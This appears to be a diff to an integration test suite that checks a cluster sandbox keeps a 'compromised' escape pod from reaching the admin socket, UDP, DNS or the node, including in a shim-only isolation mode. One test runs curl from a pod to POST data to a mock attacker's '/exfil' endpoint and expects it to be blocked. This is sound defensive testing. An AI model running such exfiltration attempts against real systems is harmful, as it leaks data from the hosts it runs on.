@@ -16,6 +16,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AGENT_POLICIES, MESH_POLICIES } from '../src/cli/commands/policies.ts';
 import { readManifestDocuments } from '../src/control-plane/cluster.ts';
 import { encodePreamble } from '../src/mesh/capture/protocol.ts';
+import { ISOLATION_ENV } from '../src/runtime/sandbox.ts';
 import { adminSocketPath } from '../src/runtime/stack-state.ts';
 import { runCli } from './support/cli.ts';
 import { forwardToPod, startTestCluster, type TestCluster } from './support/cluster.ts';
@@ -35,6 +36,28 @@ spec:
           ports: [{ containerPort: 8080 }]
 `;
 
+/** The escape-test image (test/fixtures/escape-pod.ts) deployed in the vendors' namespace, ready. */
+async function deployEscapePod(t: TestCluster): Promise<void> {
+  const digest = await t.cluster.images.build(join(import.meta.dirname, 'fixtures', 'escape-pod.ts'));
+  t.cluster.images.tag('trustusbank/escape-test:1.0.0', digest);
+  await t.cluster.engine.apply([{ file: 'escape.yaml', text: ESCAPE_DEPLOYMENT }]);
+  await t.cluster.engine.waitReady(30_000);
+}
+
+/** What the escape pod's attempts came to, asked through a port-forward. */
+async function escapeAttempts(t: TestCluster, udpPort: number): Promise<Record<string, string>> {
+  const forward = await forwardToPod(t.cluster.engine.podsOf(VENDORS, 'escape-test')[0]!, 8080);
+  try {
+    const query = new URLSearchParams({ raw: '1', socket: adminSocketPath(t.dataDir), udp: String(udpPort) });
+    const attempts = (await (await fetch(`${forward.url}/attempts?${query}`)).json()) as Record<string, string>;
+    // None of it crashed the pod.
+    expect((await fetch(`${forward.url}/healthz`)).status).toBe(200);
+    return attempts;
+  } finally {
+    await forward.close();
+  }
+}
+
 describe('a compromised pod trying every other exit', () => {
   let t: TestCluster;
   let attackerPort: number;
@@ -43,10 +66,7 @@ describe('a compromised pod trying every other exit', () => {
   beforeAll(async () => {
     t = await startTestCluster();
     attackerPort = Number(new URL(t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url).port);
-    const digest = await t.cluster.images.build(join(import.meta.dirname, 'fixtures', 'escape-pod.ts'));
-    t.cluster.images.tag('trustusbank/escape-test:1.0.0', digest);
-    await t.cluster.engine.apply([{ file: 'escape.yaml', text: ESCAPE_DEPLOYMENT }]);
-    await t.cluster.engine.waitReady(30_000);
+    await deployEscapePod(t);
     udp = createSocket('udp4');
     udp.on('message', (message) => udpReceived.push(message.toString()));
     await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
@@ -107,26 +127,17 @@ describe('a compromised pod trying every other exit', () => {
   }, 60_000);
 
   it('gives a pod no network, no admin socket and no resolver outside its capture socket where the kernel isolates pods', async () => {
-    const pod = t.cluster.engine.podsOf(VENDORS, 'escape-test')[0]!;
-    const forward = await forwardToPod(pod, 8080);
-    try {
-      const query = new URLSearchParams({ raw: '1', socket: adminSocketPath(t.dataDir), udp: String(udp.address().port) });
-      const attempts = (await (await fetch(`${forward.url}/attempts?${query}`)).json()) as Record<string, string>;
-      // Through the shim: refused in both modes.
-      expect(attempts.unixSocket).toBe('blocked: EACCES');
-      if (t.cluster.isolation.mode === 'kernel') {
-        // Around the shim: the kernel. The admin socket does not exist in the pod's view (-2 is ENOENT).
-        expect(attempts).toMatchObject({ rawUnixSocket: 'blocked: -2', udp: 'blocked: ENETUNREACH' });
-        expect(attempts.dns).toMatch(/^blocked: /);
-        expect(udpReceived).toEqual([]);
-      } else {
-        // Shim only: what the README says this mode cannot stop — and the admin API still wants its token.
-        expect(attempts).toMatchObject({ rawUnixSocket: 'allowed', udp: 'allowed' });
-      }
-      // The pod is still up: none of it crashed the pod.
-      expect((await fetch(`${forward.url}/healthz`)).status).toBe(200);
-    } finally {
-      await forward.close();
+    const attempts = await escapeAttempts(t, udp.address().port);
+    // Through the shim: refused in both modes.
+    expect(attempts.unixSocket).toBe('blocked: EACCES');
+    if (t.cluster.isolation.mode === 'kernel') {
+      // Around the shim: the kernel. The admin socket does not exist in the pod's view (-2 is ENOENT).
+      expect(attempts).toMatchObject({ rawUnixSocket: 'blocked: -2', rawAdminExec: 'blocked: -2', udp: 'blocked: ENETUNREACH' });
+      expect(attempts.dns).toMatch(/^blocked: /);
+      expect(udpReceived).toEqual([]);
+    } else {
+      // Shim only (the describe below runs this mode on purpose).
+      expect(attempts).toMatchObject({ rawUnixSocket: 'allowed', rawAdminExec: 'HTTP/1.1 401 Unauthorized', udp: 'allowed' });
     }
   });
 
@@ -186,5 +197,44 @@ console.log(JSON.stringify({ ca: read(${JSON.stringify(join(t.dataDir, 'ca', 'ca
     const converter = await t.curlFrom(VENDORS, 'currency-converter', ['-s', `http://${fraud.ip}:8080/`]);
     expect(converter.code).toBe(56);
     await t.cluster.engine.delete(readManifestDocuments(AGENT_POLICIES, []));
+  });
+});
+
+describe('shim-only isolation, where the kernel gives no namespaces: named as such, and the engine still closed', () => {
+  let t: TestCluster;
+  let udp: UdpSocket;
+  let received = 0;
+  const before = process.env[ISOLATION_ENV];
+  beforeAll(async () => {
+    process.env[ISOLATION_ENV] = 'shim';
+    t = await startTestCluster();
+    await deployEscapePod(t);
+    udp = createSocket('udp4');
+    udp.on('message', () => received++);
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  }, 120_000);
+  afterAll(async () => {
+    if (before === undefined) delete process.env[ISOLATION_ENV];
+    else process.env[ISOLATION_ENV] = before;
+    udp?.close();
+    await t?.close();
+  });
+
+  it('says so in status, and what it cannot stop happens as the README says', async () => {
+    expect(t.cluster.isolation).toMatchObject({ mode: 'shim', reason: expect.stringContaining('capture: shim only, not kernel-enforced') });
+    const status = await t.cli(['status']);
+    expect(status.stdout).toContain('Pod isolation: WARNING capture: shim only, not kernel-enforced');
+    const attempts = await escapeAttempts(t, udp.address().port);
+    // A raw handle reaches the admin socket, but the engine answers a caller without its token nothing.
+    expect(attempts).toMatchObject({ unixSocket: 'blocked: EACCES', rawUnixSocket: 'allowed', rawAdminExec: 'HTTP/1.1 401 Unauthorized', udp: 'allowed' });
+    expect(received).toBeGreaterThanOrEqual(1);
+  });
+
+  it('still never carries a pod to the node itself', async () => {
+    const port = new URL(t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url).port;
+    const before = (await t.attackerLoot()).count;
+    const attempt = await t.curlFrom(VENDORS, 'currency-converter', ['-s', '-X', 'POST', '-d', '{}', `http://127.0.0.1:${port}/exfil`]);
+    expect(attempt.code).toBe(56);
+    expect((await t.attackerLoot()).count).toBe(before);
   });
 });
